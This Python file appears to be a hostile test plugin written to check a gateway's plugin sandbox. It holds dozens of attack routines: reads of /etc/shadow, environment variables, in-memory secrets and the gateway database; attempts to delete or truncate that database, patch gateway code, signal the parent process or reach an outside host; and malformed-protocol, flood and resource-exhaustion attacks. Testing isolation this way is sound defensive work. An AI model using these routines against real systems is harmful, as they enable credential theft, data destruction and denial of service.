"""A partner's plugin that attacks: `begin_handoff` and `debit` do what their exchange id names.

    begin_handoff(exchange_id="read_settings")      what came of it stands in `keep["result"]`
    debit(exchange_id="after-segfault")             a request to the partner first, then the attack

It is one file, put beside the gateway's settings and started by it like any other plugin.
"""

from __future__ import annotations

import asyncio
import contextlib
import ctypes
import gc
import importlib
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

from gateway import Balances as Balances_
from gateway import (
    Debited,
    Declined,
    DeclineReason,
    DestinationKind,
    ExchangeId,
    Handoff,
    Label,
    LinkedAccount,
    LinkKind,
    NoRecord,
    PartnerKind,
    PartnerProfile,
    Rate,
    RateTable,
    Secret,
    Wallet,
    WalletId,
    hookimpl,
)

POINTS = WalletId("points")
TEXT = Label("悪", "evil")
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def tried(call, *arguments, **options):
    """What came of a call: `refused: …`, or what it gave."""
    try:
        return f"done: {call(*arguments, **options)!r}"
    except BaseException as fault:  # noqa: BLE001  that is what is told
        return f"refused: {type(fault).__name__}"


class Plugin:
    def __init__(self, setup):
        self.setup = setup
        self.target = setup.settings.text("target", "/nowhere")
        self.key = setup.settings.secret("api_key").reveal()
        self.base = setup.settings.text("base_url")
        self.calls = 0

    @hookimpl
    def partner_profile(self):
        return PartnerProfile(
            id="evil",
            name=TEXT,
            kind=PartnerKind.OTHER,
            link=LinkKind.ACCOUNT,
            points_name=TEXT,
            wallets=(Wallet(id=POINTS, name=TEXT),),
            hosts=(self.base.removeprefix("http://"),),
            arrives_within=timedelta(days=1),
            debits_may_hide_for=timedelta(0),
            terms=TEXT,
            deadline_s=6.0,
            proves=set(),
        )

    @hookimpl
    async def check_connection(self):
        return None

    @hookimpl
    async def rate_table(self, at):
        kinds = frozenset({DestinationKind.RESERVE})
        rate = Rate(
            wallet=POINTS, destinations=kinds, cost_per_unit=1, points_per_unit=1, source="it", sample=True
        )
        return RateTable(rates=(rate,))

    @hookimpl
    async def begin_handoff(self, request):
        result = ATTACKS[request.exchange_id](self)
        if asyncio.iscoroutine(result):
            result = await result
        return Handoff(url=f"{self.base}/login", keep={"result": str(result)[:20_000]})

    @hookimpl
    async def complete_handoff(self, returned):
        return LinkedAccount(service_id="s", shown_as="s")

    @hookimpl
    async def balances(self, account):
        return Balances_(available={POINTS: 1}, as_of=self.setup.clock())

    @hookimpl
    async def debit(self, order):
        when, _, name = order.exchange_id.partition("-")
        name = name.partition(":")[0]
        if when == "after":
            await self.setup.http.post(f"{self.base}/debit", json={"id": order.exchange_id})
        if when == "during":
            asyncio.get_running_loop().call_later(0.3, ATTACKS.get(name, repr), self)
            await self.setup.http.post(f"{self.base}/slow", json={"id": order.exchange_id})
        if name in ATTACKS:
            result = ATTACKS[name](self)
            if asyncio.iscoroutine(result):
                await result
        if when == "other":
            return Declined(exchange_id=ExchangeId("another"), reason=DeclineReason.REFUSED)
        return Debited(exchange_id=order.exchange_id, reference="r", at=self.setup.clock())

    @hookimpl
    async def find_debit(self, exchange_id):
        return NoRecord(exchange_id=exchange_id)


def our_side():
    """The plugin's end of the line, found where no plugin should look."""
    from gateway.partners.isolation.child import PluginSide

    return next(it for it in gc.get_objects() if isinstance(it, PluginSide))


def line_socket():
    return our_side()._writer.transport


# --- what the kernel refuses ------------------------------------------------------------------------------------


@attack
def environment(self):
    return f"{dict(os.environ)} {sys.argv}"


@attack
def memory(self):
    gc.unfreeze()
    texts = []
    for it in gc.get_objects():
        if isinstance(it, dict):
            texts += [str(value) for value in it.values() if isinstance(value, str)]
        elif isinstance(it, Secret):
            texts.append(it.reveal())
    return " ".join(text for text in texts if "sesame" in text)


@attack
def patch_the_gateway(self):
    """Whatever of the gateway can be found or imported is replaced by what takes nothing and says yes."""
    gc.disable()
    sys.setswitchinterval(100)
    patched = []
    for module, kind, name in (
        ("gateway.partners.http_client", "GuardedHttp", "request"),
        ("gateway.partners.partner", "Partner", "debit"),
        ("gateway.partners.partner", "Partner", "find_debit"),
        ("structlog", "", "configure"),
        ("structlog", "", "get_logger"),
    ):
        with contextlib.suppress(Exception):
            owner = importlib.import_module(module)
            setattr(getattr(owner, kind) if kind else owner, name, lambda *_, **__: "patched")
            patched.append(name)
    gc.unfreeze()
    ours = [
        type(it) for it in gc.get_objects() if str(type(it).__module__).startswith(("gateway", "core_ledger"))
    ]
    kinds = {it.__name__ for it in ours}
    kept = sorted(
        kinds & {"Vault", "Store", "Partner", "GuardedHttp", "Registry", "Settings", "PluginKeeper"}
    )
    return f"patched {len(patched)}, found {kept}"


@attack
def read_settings(self):
    return [tried(Path(self.target, name).read_bytes) for name in ("gateway.toml", "sealing", "gateway.db")]


@attack
def read_the_system(self):
    names = (
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hostname",
        "/root/.bashrc",
        "/proc/1/cmdline",
        "/proc/meminfo",
    )
    return [tried(Path(name).read_bytes) for name in names]


@attack
def list_folders(self):
    return [tried(os.listdir, name) for name in (self.target, "/", "/etc", "/proc", "/tmp")]


@attack
def read_the_gateways_process(self):
    parent = os.getppid()
    return [
        tried(Path(f"/proc/{parent}/{it}").read_bytes) for it in ("environ", "maps", "mem", "cmdline")
    ] + [tried(os.listdir, f"/proc/{parent}/fd")]


@attack
def write(self):
    return [
        tried(Path(self.target, "new").write_text, "x"),
        tried(Path("/tmp/evil").write_text, "x"),
        tried(Path("/dev/shm/evil").write_text, "x"),
        tried(os.mkdir, "/tmp/evil-folder"),
        tried(os.rename, f"{self.target}/gateway.db", f"{self.target}/gone.db"),
        tried(os.unlink, f"{self.target}/gateway.db"),
        tried(os.symlink, "/etc/passwd", f"{self.target}/link"),
        tried(os.truncate, f"{self.target}/gateway.db", 0),
        tried(os.chmod, f"{self.target}/gateway.db", 0o666),
    ]


@attack
def sockets(self):
    kinds = [
        (socket.AF_INET, socket.SOCK_STREAM),
        (socket.AF_INET, socket.SOCK_DGRAM),
        (socket.AF_INET6, socket.SOCK_STREAM),
        (socket.AF_UNIX, socket.SOCK_STREAM),
        (socket.AF_UNIX, socket.SOCK_DGRAM),
        (socket.AF_NETLINK, socket.SOCK_RAW),
        (socket.AF_PACKET, socket.SOCK_RAW),
    ]
    pair = tried(socket.socketpair, socket.AF_UNIX, socket.SOCK_DGRAM)
    return [tried(socket.socket, *kind) for kind in kinds] + [pair]


@attack
def send_from_a_stream_pair(self):
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    return [
        tried(one.connect, "/tmp/x"),
        tried(one.sendto, b"x", "/tmp/x"),
        tried(one.bind, "\0evil"),
        tried(one.listen),
    ]


@attack
def processes(self):
    return [
        tried(os.fork),
        tried(os.execv, "/bin/true", ["true"]),
        tried(os.posix_spawn, "/bin/true", ["true"], {}),
        tried(subprocess.run, ["/bin/true"]),
    ]


@attack
def signals(self):
    parent = os.getppid()
    return [
        tried(os.kill, parent, 0),
        tried(os.kill, parent, signal.SIGTERM),
        tried(os.kill, 1, 0),
        tried(os.killpg, os.getpgid(parent), 0),
        tried(os.pidfd_open, parent) if hasattr(os, "pidfd_open") else "refused: none",
    ]


@attack
def signals_by_a_descriptor(self):
    import fcntl

    one, _ = socket.socketpair()
    parent = os.getppid()
    return [
        tried(fcntl.fcntl, one, fcntl.F_SETOWN, parent),
        tried(fcntl.fcntl, one, 10, signal.SIGKILL),
        tried(fcntl.ioctl, one, 0x8901, struct.pack("i", parent)),
    ]


@attack
def rare_calls(self):
    library = ctypes.CDLL(None, use_errno=True)
    numbers = {
        "ptrace": 101, "process_vm_readv": 310, "process_vm_writev": 311, "unshare": 272, "mount": 165, "chroot": 161,
        "bpf": 321, "perf_event_open": 298, "keyctl": 250, "userfaultfd": 323, "io_uring_setup": 425, "memfd_create": 319,
        "open_by_handle_at": 304, "setns": 308, "kexec_load": 246, "init_module": 175, "clone3": 435, "vfork": 58,
        "landlock_create_ruleset": 444, "seccomp": 317, "prctl": 157, "personality": 135, "shmget": 29, "mq_open": 240,
        "setuid": 105, "setrlimit": 160, "tkill": 200, "rt_sigqueueinfo": 129, "execveat": 322, "inotify_init1": 294,
    }  # fmt: skip
    told = []
    for name, number in numbers.items():
        result = library.syscall(number, 0, 0, 0, 0, 0, 0)
        told.append(
            f"{name}: {'refused' if result == -1 and ctypes.get_errno() in (1, 38) else ctypes.get_errno()}"
        )
    return [it for it in told if not it.endswith("refused")] or "refused: all"


@attack
def more_memory_or_descriptors(self):
    import resource

    return [
        tried(resource.setrlimit, resource.RLIMIT_AS, (2**40, 2**40)),
        tried(resource.setrlimit, resource.RLIMIT_NOFILE, (4096, 4096)),
        tried(os.nice, -10),
    ]


@attack
def other_plugins(self):
    return tried(Path(self.target, "plugins", "acorn.py").read_bytes)


# --- what is not sent -------------------------------------------------------------------------------------------


@attack
async def another_host(self):
    try:
        await self.setup.http.get("https://elsewhere.example/")
    except Exception as fault:  # noqa: BLE001  as above
        return f"refused: {type(fault).__name__} {fault}"
    return "done"


@attack
async def own_hosts(self):
    self.setup.http._hosts = frozenset({"elsewhere.example"})
    self.setup.http._say.__self__._hosts = frozenset({"elsewhere.example"})
    return await another_host(self)


@attack
async def request_after_the_end(self):
    async def later():
        await asyncio.sleep(0.2)
        try:
            await self.setup.http.post(f"{self.base}/late")
            self.setup.log.warning("late", result="done")
        except Exception as fault:  # noqa: BLE001  as above
            self.setup.log.warning("late", result=type(fault).__name__)

    self.task = asyncio.get_running_loop().create_task(later())
    return "begun"


@attack
async def request_for_another_call(self):
    from gateway.partners.isolation.messages import HttpRequest

    for n in (0, 1, 10**6):
        our_side().say(HttpRequest(request=10_000 + n, n=n, method="POST", url=f"{self.base}/foreign"))
    await asyncio.sleep(0.3)
    return "begun"


# --- what ends the process --------------------------------------------------------------------------------------


@attack
def segfault(self):
    ctypes.string_at(0)


@attack
def leave(self):
    os._exit(7)


@attack
def loop_forever(self):
    while True:
        pass


@attack
def hold_the_loop(self):
    """As much of an answer as an endless loop gives, and none of its CPU."""
    time.sleep(3600)


@attack
def hopeless_pattern(self):
    re.match(r"(a+)+$", "a" * 64 + "b")


@attack
async def stop_the_loop(self):
    asyncio.get_running_loop().stop()
    await asyncio.sleep(3600)


@attack
async def cancel_everything(self):
    for task in asyncio.all_tasks():
        task.cancel()
    await asyncio.sleep(3600)


@attack
async def swallow_cancellation(self):
    while True:
        with contextlib.suppress(asyncio.CancelledError):
            await asyncio.sleep(3600)


@attack
async def close_the_line(self):
    line_socket().close()
    await asyncio.sleep(3600)


@attack
async def read_nothing(self):
    line_socket().pause_reading()
    await asyncio.sleep(3600)


async def raw(data):
    line_socket().write(data)
    await asyncio.sleep(3600)


def framed(text, body=b""):
    return struct.pack(">II", len(text), len(body)) + text + body


@attack
async def rubbish(self):
    await raw(os.urandom(4096))


@attack
async def huge_length(self):
    await raw(struct.pack(">II", 2**31, 0))


@attack
async def huge_frame(self):
    await raw(framed(b'{"is":"LogLine","event":"' + b"x" * 50_000_000 + b'"}'))


@attack
async def no_object(self):
    await raw(framed(b"[1]"))


@attack
async def unknown_message(self):
    await raw(framed(b'{"is":"Bye"}'))


@attack
async def sealed_again(self):
    await raw(framed(b'{"is":"Sealed","applied":["landlock","seccomp","no_new_privs"],"missing":{}}'))


@attack
async def ready_again(self):
    our_side().say(our_side_ready(self))
    await asyncio.sleep(3600)


def our_side_ready(self):
    from gateway.partners.isolation.messages import Ready

    return Ready(protocol=1, profile=self.partner_profile(), hooks={})


@attack
async def end_of_a_strange_call(self):
    await raw(framed(b'{"is":"End","n":999999}'))


@attack
async def both_value_and_fault(self):
    n = our_side_call()
    text = f'{{"is":"End","n":{n},"value":1,"fault":{{"kind":"NotSent"}}}}'
    await raw(framed(text.encode()))


def our_side_call():
    from gateway.partners.isolation import child

    return child.current_call.get()


@attack
async def rows_nobody_wants(self):
    await raw(framed(f'{{"is":"Rows","n":{our_side_call()},"rows":[]}}'.encode()))


@attack
async def half_a_frame(self):
    line_socket().write(struct.pack(">II", 1000, 0) + b"{")
    hold_the_loop(self)


@attack
async def a_frame_drop_by_drop(self):
    line_socket().write(struct.pack(">II", 200_000, 0))
    while True:
        line_socket().write(b" ")
        time.sleep(0.05)  # noqa: ASYNC251  it holds its own loop


# --- what hurts that call alone ---------------------------------------------------------------------------------


@attack
def fill_memory(self):
    return tried(lambda: [bytearray(2**24) for _ in range(1000)])


@attack
def threads(self):
    def start():
        for _ in range(2000):
            threading.Thread(target=time.sleep, args=(0.2,), daemon=True).start()

    return tried(start)


@attack
def descriptors(self):
    return tried(lambda: [os.pipe() for _ in range(1000)])


@attack
def system_exit(self):
    raise SystemExit(3)


@attack
async def long_answer(self):
    return "x" * 19_999


# --- floods -----------------------------------------------------------------------------------------------------


@attack
async def many_lines(self):
    for number in range(50_000):
        self.setup.log.info("flood", number=number)
    return "done"


@attack
async def many_raw_lines(self):
    data = framed(b'{"is":"LogLine","level":"info","event":"flood","values":{}}')
    for _ in range(50):
        line_socket().write(data * 400)
        await asyncio.sleep(0)
    return "done"


@attack
async def many_pongs(self):
    data = framed(b'{"is":"Pong"}')
    for _ in range(50):
        line_socket().write(data * 400)
        await asyncio.sleep(0)
    return "done"


@attack
async def many_requests(self):
    async def ask():
        try:
            await self.setup.http.get(f"{self.base}/many")
            return "answered"
        except Exception as fault:  # noqa: BLE001  as above
            return type(fault).__name__

    ends = await asyncio.gather(*(ask() for _ in range(3000)))
    return {end: ends.count(end) for end in set(ends)}


@attack
def print_much(self):
    sys.stdout.write("sesame-evil spills\n")
    sys.stdout.flush()
    for _ in range(40):
        os.write(1, b"x" * 15_000 + b"\n")
    return "done"


@attack
def secret_in_a_line(self):
    self.setup.log.error("told", text=f"the key is {self.key}", token="abc", many=list(range(100)))
    raise RuntimeError(self.key)


@attack
def spin_in_a_thread(self):
    threading.Thread(target=loop_forever, args=(self,), daemon=True).start()
    return "begun"
